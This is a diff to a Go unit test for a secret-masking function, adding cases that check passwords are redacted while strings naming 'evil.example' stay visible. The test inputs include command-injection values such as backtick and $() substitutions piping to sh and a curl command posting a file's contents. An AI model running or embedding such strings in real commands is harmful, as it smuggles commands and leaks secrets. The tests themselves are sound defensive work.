@@ -22,6 +22,7 @@ func TestReadable(t *testing.T) {
 		"password: hunter2":                     "password: [masked:password]",
 		"echo ghp_" + random:                    "echo [masked:github-token]",
 		"password = \"x y ghp_" + random + "\"": "password = \"x y [masked:github-token]\"",
+		"password=/" + random:                   "password=[masked:password]",
 		"Cookie: session=" + random:             "Cookie: [masked:cookie]",
 	} {
 		if got := Readable(in); got != want {
@@ -34,6 +35,7 @@ func TestReadable(t *testing.T) {
 		"evil.example -----BEGIN PRIVATE KEY-----\n" + keyText, "-----BEGIN PRIVATE KEY; evil.example-----\n" + keyText, "-----BEGIN PRIVATE KEY-----\n" + keyText + ";evil.example",
 		"API_KEY=`curl${IFS}evil.example`", "API_KEY=`evil.example|sh`", "export PASSWORD=\"$(evil.example)\"",
 		"# token: '\ncurl evil.example\n# '", "Cookie: a; curl evil.example", "https://user:${IFS}evil.example@host/",
+		"curl -d password=@/srv/evil.example h.example", "secret=/srv/evil.example; cat $secret", "cat --password=../evil.example", "token=~/evil.example", "token: https://evil.example/x",
 		"mysql -p'$(evil.example)'", "private_key: \"-----BEGIN evil.example;\"", "secret := `\nevil.example\n`", "--password 'a;evil.example'",
 	} {
 		if got := Readable(in); !strings.Contains(got, "evil.example") {
